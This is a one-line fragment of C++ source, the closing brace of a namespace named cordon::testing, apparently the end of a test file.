}  // namespace cordon::testing
